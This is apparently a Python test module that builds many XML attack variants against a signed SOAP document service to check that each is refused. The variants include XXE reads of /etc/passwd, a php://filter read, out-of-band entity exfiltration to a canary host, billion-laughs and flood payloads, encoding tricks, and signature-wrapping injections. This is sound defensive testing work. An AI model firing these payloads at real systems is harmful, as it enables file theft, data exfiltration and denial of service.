"""XML itself as the weapon: DTDs, floods, encodings, comments and the instance attributes of XML Schema.

Knows what Späth et al. ("SoK: XML Parser Vulnerabilities", 2016), Jan et al. and the parser-differential work on SAML (Duo 2018, ruby-saml
2025) did to parsers.  Each variant is an honest signed envelope whose bytes were changed, or one that its own sender signed so.
"""

import codecs
from collections.abc import Callable, Iterator

from tests.attacker.campaign import REFUSE, SAME, Attack, Case, Shot
from tests.attacker.honest import DOCUMENTS, Form, b64, send_document

VERSIONS = ("1.1", "1.2")
SOK = "Späth et al. 2016, SoK: XML Parser Vulnerabilities"
DUO = "CVE-2017-11427 and its kin; Duo 2018"


def doctypes(canary: str) -> dict[str, tuple[str, str, str]]:
    """(DOCTYPE, text looked for, text put there)."""
    entity, token = "&e;", "<d:Packet>"
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    parameters = f'<!ENTITY % p SYSTEM "{canary}/p.dtd"> %p;'
    return {
        "empty": ("<!DOCTYPE x>", "", ""),
        "empty subset": ("<!DOCTYPE x []>", "", ""),
        "Envelope": ("<!DOCTYPE s:Envelope>", "", ""),
        "lower case": ("<!doctype x>", "", ""),
        "external": (f'<!DOCTYPE x SYSTEM "{canary}/x.dtd">', "", ""),
        "external file": ('<!DOCTYPE x SYSTEM "file:///etc/passwd">', "", ""),
        "external ftp": (f'<!DOCTYPE x SYSTEM "{canary.replace("http", "ftp")}/x">', "", ""),
        "public": (f'<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{canary}/x.dtd">', "", ""),
        "internal entity": ('<!DOCTYPE x [<!ENTITY e "">]>', token, token + entity),
        "entity is the id": ('<!DOCTYPE x [<!ENTITY e "Body">]>', 'Id="Body"', 'Id="&e;"'),
        "file entity": ('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>', "<d:MessageId>", f"<d:MessageId>{entity}"),
        "http entity": (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary}/e">]>', token, token + entity),
        "php filter": ('<!DOCTYPE x [<!ENTITY e SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]>', token, token + entity),
        "parameter entity": (f"<!DOCTYPE x [{parameters}]>", "", ""),
        "parameter entity, internal": ("<!DOCTYPE x [<!ENTITY % p '<!ENTITY e \"\">'> %p;]>", token, token + entity),
        "out of band": (f'<!DOCTYPE x [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "{canary}/o.dtd">%d;]>', "", ""),
        "billion laughs": (f'<!DOCTYPE x [<!ENTITY l0 "lol">{lol}]>', "<d:MessageId>", "<d:MessageId>&l9;"),
        "billion laughs in an attribute": (f'<!DOCTYPE x [<!ENTITY l0 "lol">{lol}]>', 'Id="Body"', 'Id="Body" a="&l9;"'),
        "quadratic": (f'<!DOCTYPE x [<!ENTITY e "{"A" * 50_000}">]>', "<d:MessageId>", "<d:MessageId>" + entity * 2_000),
        "recursive": ('<!DOCTYPE x [<!ENTITY e "&f;"><!ENTITY f "&e;">]>', "<d:MessageId>", f"<d:MessageId>{entity}"),
        "default attribute": ('<!DOCTYPE x [<!ATTLIST d:Packet a CDATA "x">]>', "", ""),
        "default id": ('<!DOCTYPE x [<!ATTLIST s:Body Id ID "Body">]>', "", ""),
        "default namespace": (f'<!DOCTYPE x [<!ATTLIST d:SendDocument xmlns:d CDATA "{DOCUMENTS}">]>', f' xmlns:d="{DOCUMENTS}"', ""),
        "id of a comment": ("<!DOCTYPE x [<!ATTLIST s:Header a ID #IMPLIED>]>", "<s:Header>", '<s:Header a="Body">'),
        "notation": ('<!DOCTYPE x [<!NOTATION n SYSTEM "sh">]>', "", ""),
        "unparsed entity": (f'<!DOCTYPE x [<!NOTATION n SYSTEM "n"><!ENTITY e SYSTEM "{canary}/u" NDATA n>]>', "", ""),
        "conditional": ("<!DOCTYPE x [<![INCLUDE[]]>]>", "", ""),
        "many": ("<!DOCTYPE x>" * 2, "", ""),
        "long": (f"<!DOCTYPE x [{'<!-- -->' * 20_000}]>", "", ""),
        "unfinished": ("<!DOCTYPE x [", "", ""),
    }  # fmt: skip


def with_doctype(name: str, encoding: str) -> Callable[[Case], Shot]:
    def shoot(case: Case) -> Shot:
        doctype, find, put = doctypes(case.campaign.canary.url)[name]
        text = case.base.decode()
        head, rest = text.split("?>", 1)
        made = f"{head}?>{doctype}{rest.replace(find, put, 1) if find else rest}"
        if encoding == "utf-8":
            return Shot(made.encode())
        made = made.replace("UTF-8", "UTF-16", 1)
        return Shot(codecs.BOM_UTF16_BE + made.encode("utf-16-be"))

    return shoot


def inside_doctype(where: str) -> Callable[[Case], Shot]:
    """The packet itself brings the DTD; its envelope is honestly signed."""

    def shoot(case: Case) -> Shot:
        doctype, find, put = doctypes(case.campaign.canary.url)[where]
        find, put = ("<Subject>", "<Subject>&e;") if "&" in put else ("", "")
        text = case.paper.but(declaration=f'<?xml version="1.0"?>{doctype}').octets().decode()
        packet = text.replace(find, put.replace("&e;", "&l9;" if "laughs" in where else "&e;"), 1) if find else text
        return Shot(case.message(send_document(case.message_id, packet.encode())))

    return shoot


def by_text(find: str, put: str, count: int = 1) -> Callable[[Case], Shot]:
    return lambda case: Shot(case.base.decode().replace(find, put, count).encode())


def signed_text(find: str, put: str) -> Callable[[Case], Shot]:
    """The sender's own key signs it so."""
    return lambda case: Shot(case.seal(text=lambda text: text.replace(find, put, 1)))


def sections() -> dict[str, tuple[str, str]]:
    """CDATA in signed content, which no canonical form shows."""
    return {
        "CDATA around a part of Packet": ("<d:Packet>PD94", "<d:Packet><![CDATA[PD94]]>"),
        "CDATA empty in Packet": ("<d:Packet>PD94", "<d:Packet>PD94<![CDATA[]]>"),
        "CDATA in MessageId": ("-honest<", "<![CDATA[-honest]]><"),
        "CDATA cuts MessageId": ("-honest<", "-ho<![CDATA[]]>nest<"),
        "CDATA of a comment in MessageId": ("-honest<", "-honest<![CDATA[<!-- -->]]><"),
        "CDATA between": ("<d:Packet>", "<![CDATA[ ]]><d:Packet>"),
        "CDATA in Body": ("<d:SendDocument", "<![CDATA[]]><d:SendDocument"),
        "CDATA in Created": ("<wsu:Created>", "<wsu:Created><![CDATA[]]>"),
        "CDATA in DigestValue": ("</ds:DigestValue>", "<![CDATA[]]></ds:DigestValue>"),
        "CDATA in SignatureValue": ("</ds:SignatureValue>", "<![CDATA[]]></ds:SignatureValue>"),
    }


def in_encoding(encoding: str, find: str, put: str, *, signed: bool = False) -> Callable[[Case], Shot]:
    """Return the shooter of a text with *put* for *find*, whether signed so or changed afterwards, in that encoding."""

    def shoot(case: Case) -> Shot:
        whole = case.seal(text=lambda text: text.replace(find, put, 1)) if signed else case.base
        text = whole.decode().replace("UTF-8", encoding.upper(), 1)
        return Shot((text if signed else text.replace(find, put, 1)).encode(encoding))

    return shoot


def many(pattern: str, count: int) -> str:
    """An element of so many attributes."""
    return f"<x {' '.join(pattern.format(number) for number in range(count))}/>"


def floods() -> Iterator[Attack]:
    wins = "it costs memory or time without bound"
    header = "<s:Header>"
    made = {
        "depth 65": "<x>" * 65 + "</x>" * 65,
        "depth 10,000": "<x>" * 10_000 + "</x>" * 10_000,
        "depth 1,000,000": "<x>" * 1_000_000,
        "attributes 65": many('a{0}=""', 65),
        "attributes 100,000": many('a{0}=""', 100_000),
        "attributes that collide": many('a{0:016b}=""', 20_000),
        "namespaces 10,000": many('xmlns:a{0}="urn:{0}"', 10_000),
        "namespaces nested": "".join(f'<x xmlns:a{n}="urn:{n}">' for n in range(60)) + "</x>" * 60,
        "names 100,000": "".join(f"<n{n}/>" for n in range(100_000)),
        "elements 1,000,000": "<x/>" * 1_000_000,
        "a name of a megabyte": f"<{'n' * 1_000_000}/>",
        "an attribute of 11 MB": f'<x a="{"a" * 11_000_000}"/>',
        "a text of 11 MB": f"<x>{'a' * 11_000_000}</x>",
        "a comment of 5 MB": f"<!--{'a' * 5_000_000}-->",
        "comments 500,000": "<!---->" * 500_000,
        "a processing instruction of 5 MB": f"<?x {'a' * 5_000_000}?>",
        "a CDATA of 11 MB": f"<x><![CDATA[{'a' * 11_000_000}]]></x>",
        "character references": f"<x>{'&#65;' * 1_000_000}</x>",
        "a prefix of a megabyte": f'<{"p" * 1_000_000}:x xmlns:{"p" * 1_000_000}="urn:x"/>',
        "a namespace of a megabyte": f'<x xmlns="urn:{"n" * 1_000_000}"/>',
    }
    for number, (name, text) in enumerate(made.items()):
        form = Form(VERSIONS[number % 2])
        # What stays below the limits stands unsigned in the header, and may stand there.
        yield Attack("floods", name, SOK, wins, by_text(header, header + text), SAME, form=form)
    for name, (find, put) in {
        "white space of 5 MB in the root": ("<s:Envelope ", "<s:Envelope" + " " * 5_000_000),
        "references of many": ("</ds:SignedInfo>", '<ds:Reference URI="#Body"/>' * 5000 + "</ds:SignedInfo>"),
        "tokens of many": (
            "<wsu:Timestamp ",
            '<wsse:BinarySecurityToken wsu:Id="t">AA==</wsse:BinarySecurityToken>' * 5000 + "<wsu:Timestamp ",
        ),
        "Security headers of many": ("</s:Header>", "<wsse:Security/>" * 5000 + "</s:Header>"),
        "a MessageId of a megabyte": ("<d:MessageId>", f"<d:MessageId>{'m' * 1_000_000}"),
        "a DigestValue of 10 MB": ("<ds:DigestValue>", f"<ds:DigestValue>{'A' * 10_000_000}"),
        "a token of 10 MB": ('#Base64Binary">MII', f'#Base64Binary">{"A" * 10_000_000}MII'),
        "a serial number of a megabyte": ("<ds:X509SerialNumber>", f"<ds:X509SerialNumber>{'9' * 1_000_000}"),
        "Created of a megabyte": ("<wsu:Created>", f"<wsu:Created>{'9' * 1_000_000}"),
    }.items():
        form = Form(reference="issuer-serial") if "serial" in name else Form()
        yield Attack(
            "floods",
            name,
            SOK,
            wins,
            by_text(find, put),
            SAME if name in {"white space of 5 MB in the root", "tokens of many"} else REFUSE,
            form=form,
        )


def encodings() -> Iterator[Attack]:
    wins = "octets are read in another encoding than the signature's"
    source = "Späth et al. 2016; XML 1.0 appendix F; CVE-2020-29509"

    def declared(name: str, codec: str, mark: bytes = b"") -> Callable[[Case], Shot]:
        return lambda case: Shot(mark + case.base.decode().replace("UTF-8", name, 1).encode(codec, "xmlcharrefreplace"))

    def octets(change: Callable[[bytes], bytes]) -> Callable[[Case], Shot]:
        return lambda case: Shot(change(case.base))

    for version in VERSIONS:
        form = Form(version)
        for name, codec, mark, expect in (
            ("UTF-16", "utf-16-be", codecs.BOM_UTF16_BE, SAME),
            ("UTF-16", "utf-16-le", codecs.BOM_UTF16_LE, SAME),
            ("UTF-16", "utf-16-be", b"", REFUSE),
            ("UTF-16", "utf-16-le", b"", REFUSE),
            ("UTF-8", "utf-16-be", codecs.BOM_UTF16_BE, SAME),
            ("UTF-8", "utf-16-le", b"", REFUSE),
            ("UTF-16", "utf-8", b"", REFUSE),
            ("UTF-16", "utf-8", codecs.BOM_UTF8, REFUSE),
            ("UTF-32", "utf-32-be", codecs.BOM_UTF32_BE, REFUSE),
            ("UTF-32", "utf-32-le", codecs.BOM_UTF32_LE, REFUSE),
            ("UTF-7", "utf-7", b"", REFUSE),
            ("UTF-7", "utf-8", b"", REFUSE),
            ("IBM037", "cp037", b"", REFUSE),
            ("EBCDIC-CP-US", "cp037", b"", REFUSE),
            ("ISO-8859-1", "latin-1", b"", REFUSE),
            ("windows-1258", "cp1258", b"", REFUSE),
            ("Shift_JIS", "ascii", b"", REFUSE),
            ("ISO-2022-JP", "ascii", b"", REFUSE),
            ("GB18030", "gb18030", b"", REFUSE),
            ("HZ-GB-2312", "ascii", b"", REFUSE),
            ("US-ASCII", "ascii", b"", REFUSE),
            ("unknown", "utf-8", b"", REFUSE),
            ("utf-8", "utf-8", b"", SAME),
            ("UTF-8", "utf-8", codecs.BOM_UTF8, SAME),
            ("UTF-8", "utf-8", codecs.BOM_UTF8 * 2, REFUSE),
            ("UCS-2", "utf-16-be", codecs.BOM_UTF16_BE, REFUSE),
        ):
            called = f"says {name}, is {codec}, mark {mark.hex() or 'none'}"
            yield Attack("encodings", called, source, wins, declared(name, codec, mark), expect, form=form)
        for name, change in {
            "NUL": lambda base: base.replace(b"<s:Body", b"\0<s:Body"),
            "NUL at the end": lambda base: base + b"\0",
            "NUL in an id": lambda base: base.replace(b"honest<", b"honest\0<"),
            "overlong slash": lambda base: base.replace(b"honest<", b"honest\xc0\xaf<"),
            "overlong bracket": lambda base: base.replace(b"<s:Body", b"\xc0\xbcs:Body"),
            "lone surrogate": lambda base: base.replace(b"honest<", b"honest\xed\xa0\x80<"),
            "beyond Unicode": lambda base: base.replace(b"honest<", b"honest\xf5\x80\x80\x80<"),
            "lone continuation": lambda base: base.replace(b"honest<", b"honest\x80<"),
            "cut in a letter": lambda base: base.replace(b"honest<", b"honest\xe1\xbb<"),
            "U+FFFE": lambda base: base.replace(b"honest<", b"honest\xef\xbf\xbe<"),
            "a control letter": lambda base: base.replace(b"honest<", b"honest\x01<"),
            "a control reference": lambda base: base.replace(b"honest<", b"honest&#1;<"),
            "XML 1.1": lambda base: base.replace(b"version='1.0'", b"version='1.1'"),
            "XML 2.0": lambda base: base.replace(b"version='1.0'", b"version='2.0'"),
            "standalone": lambda base: base.replace(b"?>", b" standalone='no'?>", 1),
            "white space before": lambda base: b" " + base,
            "cut": lambda base: base[:-20],
            "cut in the middle": lambda base: base[: len(base) // 2],
            "twice": lambda base: base + base,
            "something behind": lambda base: base + b"<x/>",
            "text behind": lambda base: base + b"x",
            "empty": lambda base: b"",
            "one octet": lambda base: b"<",
            "a picture": lambda base: b"\x89PNG\r\n\x1a\n" + bytes(100),
            "JSON": lambda base: b'{"a": 1}',
        }.items():
            expect = SAME if name == "standalone" else REFUSE
            yield Attack("encodings", name, source, wins, octets(change), expect, form=form)


def texts() -> Iterator[Attack]:
    """Comments, CDATA and instructions within signed content; XML Schema's own attributes."""
    wins = "what is read is not what was signed"
    for version in VERSIONS:
        form = Form(version)
        body = {
            "comment in Packet": ("<d:Packet>PD94", "<d:Packet>PD94<!-- -->"),
            "comment before Packet's text": ("<d:Packet>", "<d:Packet><!-- -->"),
            "comment after Packet's text": ("</d:Packet>", "<!-- --></d:Packet>"),
            "comment in MessageId": ("-honest<", "-ho<!-- -->nest<"),
            "comment cuts MessageId": ("-honest<", "<!-- -->-honest<"),
            "comment in Body": ("<d:SendDocument", "<!-- --><d:SendDocument"),
            "comment between": ("<d:Packet>", "<!-- --><d:Packet>"),
            "instruction in Packet": ("<d:Packet>PD94", "<d:Packet>PD94<?x?>"),
            "instruction in Body": ("<d:SendDocument", "<?x?><d:SendDocument"),
            "an element in Packet": ("<d:Packet>PD94", "<d:Packet>PD94<x/>"),
            "an XInclude of a file": (
                "<d:MessageId>",
                '<d:MessageId><i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/hostname"/>',
            ),
        }
        for name, (find, put) in body.items():
            yield Attack("texts", name, DUO, wins, by_text(find, put), form=form)
            yield Attack("texts", f"{name}, signed", DUO, wins, signed_text(find, put), form=form)
        for name, (find, put) in sections().items():
            for encoding in ("utf-8", "utf-16"):
                told = f"{name}, {encoding}"
                yield Attack("texts", told, DUO, wins, in_encoding(encoding, find, put), form=form)
                if "ds:" in find:
                    continue  # what the signature itself says is written when it is made
                yield Attack(
                    "texts", f"{told}, signed", DUO, wins, in_encoding(encoding, find, put, signed=True), form=form
                )
        harmless = {
            "references in Packet": ("<d:Packet>PD94", "<d:Packet>&#80;&#x44;94"),
            "a comment in Header": ("<s:Header>", "<s:Header><!-- -->"),
        }
        for name, (find, put) in harmless.items():
            yield Attack("texts", name, DUO, wins, by_text(find, put), SAME, form=form)
        instance = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        xs = 'xmlns:xs="http://www.w3.org/2001/XMLSchema"'
        schema = "XML Schema 1.1 2.6; WS-I BP 1.1; security.md finding 3"
        for name, put in {
            "xsi:type string": f'<d:Packet {instance} {xs} xsi:type="xs:string">',
            "xsi:type hexBinary": f'<d:Packet {instance} {xs} xsi:type="xs:hexBinary">',
            "xsi:type anyType": f'<d:Packet {instance} {xs} xsi:type="xs:anyType">',
            "xsi:type of a strange prefix": f'<d:Packet {instance} xsi:type="nobody:base64Binary">',
            "xsi:type of ours": f'<d:Packet {instance} xsi:type="d:Identifier">',
            "xsi:nil": f'<d:Packet {instance} xsi:nil="true">',
            "xsi:nil, false": f'<d:Packet {instance} xsi:nil="false">',
            "schemaLocation": f'<d:Packet {instance} xsi:schemaLocation="{DOCUMENTS} @CANARY@/x.xsd">',
            "noNamespaceSchemaLocation": f'<d:Packet {instance} xsi:noNamespaceSchemaLocation="@CANARY@/x.xsd">',
            "an unknown attribute": '<d:Packet a="b">',
            "href": '<d:Packet href="@CANARY@/p">',
        }.items():

            def instanced(case: Case, put: str = put) -> Shot:
                put = put.replace("@CANARY@", case.campaign.canary.url)
                return Shot(case.seal(text=lambda text: text.replace("<d:Packet>", put, 1)))

            yield Attack("schema", name, schema, wins, instanced, SAME, form=form)

        def rebound(case: Case, xs: str = xs, instance: str = instance) -> Shot:
            """A QName in signed content whose prefix is bound outside: exclusive C14N does not cover the binding."""
            made = case.seal(
                text=lambda text: text.replace("<s:Envelope ", f"<s:Envelope {xs} {instance} ", 1).replace(
                    "<d:Packet>", '<d:Packet xsi:type="xs:base64Binary">', 1
                )
            )
            return Shot(made.replace(b'xmlns:xs="http://www.w3.org/2001/XMLSchema"', b'xmlns:xs="urn:false"'))

        yield Attack("schema", "the prefix of xsi:type rebound outside", schema, wins, rebound, form=form)
        for name, (find, put) in {
            "two Packets": ("</d:Packet>", "</d:Packet><d:Packet>QQ==</d:Packet>"),
            "two MessageIds": ("<d:Packet>", "<d:MessageId>other</d:MessageId><d:Packet>"),
            "Packet first": ("<d:MessageId>", "<d:Packet>QQ==</d:Packet><d:MessageId>"),
            "an unknown child": ("</d:Packet>", "</d:Packet><d:Admin>true</d:Admin>"),
            "unqualified children": ("<d:MessageId>", "<MessageId>x</MessageId><d:MessageId>"),
            "text between": ("<d:Packet>", "text<d:Packet>"),
            "Packet is called Paket": ("<d:Packet>PD94", "<d:Paket/><d:Packet>PD94"),
            "a second operation": ("</s:Body>", f'<d:GetOrganizations xmlns:d="{DOCUMENTS}"/></s:Body>'),
            "an encoding style": (
                "<d:SendDocument",
                '<d:SendDocument s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"',
            ),
        }.items():
            expect = SAME if name == "an encoding style" else REFUSE
            yield Attack(
                "schema",
                name,
                "SOAP array and parameter pollution, OWASP",
                wins,
                signed_text(find, put),
                expect,
                form=form,
            )
        base64s: dict[str, Callable[[str], str]] = {
            "white space": lambda text: f"\n {text[:40]}\t{text[40:]}\r\n ",
            "a letter outside": lambda text: f"{text[:40]}*{text[40:]}",
            "padding in the middle": lambda text: f"{text[:40]}==={text[40:]}",
            "two, concatenated": lambda text: f"{text.rstrip('=')}====QUFB",
            "no padding": lambda text: text.rstrip("="),
            "too much padding": lambda text: f"{text}====",
            "for URLs": lambda text: text.replace("+", "-").replace("/", "_") + "-_-_",
            "no-break space": lambda text: f"{text[:40]}\xa0{text[40:]}",
            "full-width letters": lambda text: f"\uff30{text[1:]}",
            "a data URL": lambda text: f"data:text/xml;base64,{text}",
            "hexadecimal": lambda text: text.encode().hex(),
            "empty": lambda text: "",
            "blank": lambda text: "   ",
            "bits left over": lambda text: (
                "PD94B" + text[4:][1:] if text.endswith("=") else text[:-4] + b64(b"x")[:-3] + "B=="
            ),
        }
        for name, change in base64s.items():

            def encoded(case: Case, change: Callable[[str], str] = change) -> Shot:
                packet = b64(case.packet)
                return Shot(case.message(case.honest.replace(packet, change(packet))))

            yield Attack("base64", name, "RFC 4648 12; Chalkias & Chatzigiannis 2022", wins, encoded, SAME, form=form)


def attacks() -> Iterator[Attack]:
    wins = "a DTD is taken, or something in it fetched or expanded"
    for name in doctypes(""):
        for version, encoding in (("1.1", "utf-8"), ("1.2", "utf-8"), ("1.1", "utf-16")):
            yield Attack("doctypes", f"{name}, {encoding}", SOK, wins, with_doctype(name, encoding), form=Form(version))
        yield Attack("doctypes", f"{name}, in the packet", SOK, wins, inside_doctype(name))
    yield from encodings()
    yield from texts()
    yield from floods()
